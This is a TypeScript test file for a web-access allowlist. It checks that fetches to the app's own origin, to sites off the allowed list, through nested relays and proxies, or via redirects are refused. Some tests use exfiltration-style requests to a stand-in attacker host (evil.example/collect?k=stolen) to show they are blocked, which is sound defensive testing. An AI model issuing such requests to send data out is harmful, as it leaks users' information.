import { describe, expect, it } from 'vitest';
import { NetworkError } from '@/shared/protocol/ports/network-port.ts';
import { DEFAULT_WEB_SETTINGS, WebSettings } from '@/shared/protocol/web/web-settings.ts';
import { prefixesFor, siteOutsideList, WebNetworks } from './web-networks.ts';

describe('the web networks', () => {
  it('allow only the services switched on, with the SearXNG instance and the proxy when set', () => {
    const web = {
      ...DEFAULT_WEB_SETTINGS,
      disabledServices: ['github' as const],
      searxngUrl: 'https://searx.example.org/',
      corsProxyTemplate: 'https://proxy.example/?url={url}',
    };
    expect(prefixesFor(web, ['github'])).toEqual([]);
    expect(prefixesFor(web, ['npm', 'searxng'])).toEqual([
      'https://registry.npmjs.org',
      'https://searx.example.org',
    ]);
    expect(prefixesFor(web, ['brave'])).toEqual(['https://api.search.brave.com', 'https://proxy.example']);
    expect(prefixesFor({ ...web, disabledServices: ['cors_proxy'] }, ['brave'])).toEqual([
      'https://api.search.brave.com',
    ]);
    expect(prefixesFor(web, ['direct'])).toEqual(['*']);
    expect(prefixesFor({ ...web, disabledServices: ['direct'] }, ['direct'])).toEqual([]);
  });

  it('never reach the app’s own origin, even where any address is allowed', async () => {
    const asked: string[] = [];
    const fetchImpl: typeof fetch = async (input) => {
      asked.push(String(input));
      return new Response('ok');
    };
    const networks = new WebNetworks(DEFAULT_WEB_SETTINGS, fetchImpl, 'https://app.example');
    const direct = networks.for(['direct']);
    const refusal = await direct
      .fetch({ url: 'https://app.example/preview/other-conversation/secret.png' })
      .catch((error: unknown) => error);
    expect(refusal).toBeInstanceOf(NetworkError);
    expect((refusal as NetworkError).kind).toBe('not_allowed');
    expect((refusal as NetworkError).message).toContain('Settings → Search');
    await direct.fetch({ url: 'https://news.example/story' });
    expect(asked).toEqual(['https://news.example/story']);
  });
});

describe('the allowed sites', () => {
  const web = {
    ...DEFAULT_WEB_SETTINGS,
    corsProxyTemplate: 'https://proxy.example/?url={url}',
    allowedSites: ['https://docs.example/guide'],
  };

  /** The web networks over a `fetch` that records every address asked and answers `reply`. */
  function recorded(settings: WebSettings, reply: (url: string) => Response = () => new Response('ok')) {
    const asked: string[] = [];
    const fetchImpl: typeof fetch = async (input) => {
      asked.push(String(input));
      return reply(String(input));
    };
    return { asked, networks: new WebNetworks(settings, fetchImpl, 'https://app.example') };
  }

  it('let the sites themselves be read only within the list, and any site when the list is off', async () => {
    expect(prefixesFor(web, ['direct'])).toEqual(['https://docs.example/guide']);
    const { asked, networks } = recorded(web);
    const direct = networks.for(['direct']);
    await direct.fetch({ url: 'https://docs.example/guide/start' });
    const refusal = await direct
      .fetch({ url: 'https://evil.example/collect?k=stolen' })
      .catch((error: unknown) => error);
    expect(refusal).toBeInstanceOf(NetworkError);
    expect((refusal as NetworkError).message).toBe(
      'https://evil.example/collect?… is not allowed: it is outside the sites allowed in Settings → Search → Allowed sites (https://docs.example/guide). Use an allowed site, or ask the person to add this one.',
    );
    await expect(direct.fetch({ url: 'https://docs.example/guidebook' })).rejects.toThrow(/Allowed sites/);
    expect(asked).toEqual(['https://docs.example/guide/start']);

    const open = recorded({ ...web, allowedSites: null });
    await open.networks.for(['direct']).fetch({ url: 'https://evil.example/collect' });
    expect(open.asked).toEqual(['https://evil.example/collect']);
  });

  it('check the address a relay is asked to read, not the relay’s own', async () => {
    const { asked, networks } = recorded(web);
    const jina = networks.for(['jina_reader']);
    await expect(jina.fetch({ url: 'https://r.jina.ai/https://evil.example/x' })).rejects.toThrow(
      'https://evil.example/x is not allowed',
    );
    await jina.fetch({ url: 'https://r.jina.ai/https://docs.example/guide/a' });
    const proxy = networks.for(['cors_proxy']);
    const encoded = encodeURIComponent('https://evil.example/x?k=1');
    await expect(proxy.fetch({ url: `https://proxy.example/?url=${encoded}` })).rejects.toThrow(
      'https://evil.example/x?… is not allowed',
    );
    await expect(proxy.fetch({ url: 'https://proxy.example/elsewhere' })).rejects.toThrow(/not allowed/);
    const tavily = networks.for(['tavily']);
    const extract = (urls: unknown) => ({
      url: 'https://api.tavily.com/extract',
      method: 'POST' as const,
      body: JSON.stringify({ urls }),
    });
    await expect(tavily.fetch(extract(['https://evil.example/']))).rejects.toThrow(/Allowed sites/);
    await expect(tavily.fetch(extract('not a list of addresses'))).rejects.toThrow(/Allowed sites/);
    // A relay inside a relay is read for the address inside it.
    const nested = `https://r.jina.ai/https://proxy.example/?url=${encodeURIComponent('https://evil.example/')}`;
    await expect(jina.fetch({ url: nested })).rejects.toThrow('https://evil.example/ is not allowed');
    expect(asked).toEqual(['https://r.jina.ai/https://docs.example/guide/a']);
  });

  it('leave the search services’ own addresses to their switches, and check each redirect', async () => {
    const { asked, networks } = recorded(web, (url) =>
      url.includes('/hop')
        ? new Response(null, { status: 302, headers: { location: 'https://evil.example/landing' } })
        : new Response('ok'),
    );
    await networks.for(['npm']).fetch({ url: 'https://registry.npmjs.org/-/v1/search?text=x' });
    await networks
      .for(['brave', 'cors_proxy'])
      .fetch({ url: `https://proxy.example/?url=${encodeURIComponent('https://api.search.brave.com/res')}` });
    await expect(
      networks.for(['openverse', 'direct']).fetch({ url: 'https://images.example/cat.jpg' }),
    ).rejects.toThrow(/Allowed sites/);
    await expect(networks.for(['direct']).fetch({ url: 'https://docs.example/guide/hop' })).rejects.toThrow(
      'A redirect to GET https://evil.example/landing is not allowed',
    );
    expect(asked).toEqual([
      'https://registry.npmjs.org/-/v1/search?text=x',
      `https://proxy.example/?url=${encodeURIComponent('https://api.search.brave.com/res')}`,
      'https://docs.example/guide/hop',
    ]);
    expect(siteOutsideList(web, ['direct'], { url: 'https://docs.example/guide' })).toBeNull();
  });

  it('are checked when saved: each an http(s) site or site and path; old settings without them load', () => {
    expect(
      WebSettings.safeParse({ ...web, allowedSites: ['https://ok.example', 'http://b.example/docs'] })
        .success,
    ).toBe(true);
    const bad = WebSettings.safeParse({
      ...web,
      allowedSites: ['evil.example', 'ftp://x.example', 'https://x.example/?q=1'],
    });
    expect(bad.success).toBe(false);
    expect(bad.error?.issues.map((issue) => issue.message)).toEqual([
      '"evil.example" is not a URL: start it with https://, e.g. https://docs.python.org.',
      '"ftp://x.example" is not an http(s) address.',
      '"https://x.example/?q=1" has a query or fragment: give a site, or a site and a path.',
    ]);
    const { allowedSites: _, ...old } = web;
    expect(WebSettings.parse(old).allowedSites).toBeUndefined();
  });
});
